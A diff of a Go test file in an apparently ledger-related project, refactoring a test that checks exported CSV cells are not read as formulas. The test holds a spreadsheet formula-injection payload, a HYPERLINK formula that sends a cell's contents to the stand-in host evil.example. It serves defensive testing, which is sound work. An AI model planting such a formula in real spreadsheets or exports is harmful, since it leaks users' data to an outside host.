@@ -1,16 +1,12 @@
 package main
 
 import (
-	"context"
 	"encoding/csv"
 	"slices"
 	"strings"
 	"testing"
 	"time"
 
-	"google.golang.org/grpc"
-	"google.golang.org/grpc/credentials/insecure"
-	"google.golang.org/grpc/metadata"
 	"google.golang.org/protobuf/types/known/timestamppb"
 
 	ledgerv1 "github.com/pactledger/pactledger/proto/pactledger/ledger/v1"
@@ -22,13 +18,7 @@ import (
 // they are.
 func TestCSVCellsAreNoFormulas(t *testing.T) {
 	f := start(t)
-	conn, err := grpc.NewClient(f.addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer conn.Close()
-	c := ledgerv1.NewLedgerServiceClient(conn)
-	wctx := metadata.AppendToOutgoingContext(context.Background(), "authorization", "Bearer "+keys["writer"])
+	c, wctx := f.writer(t)
 	const formula = `=HYPERLINK("http://evil.example/?"&A1,"A-7401")`
 	var ids []string
 	for _, r := range []*ledgerv1.AppendRefusalRequest{
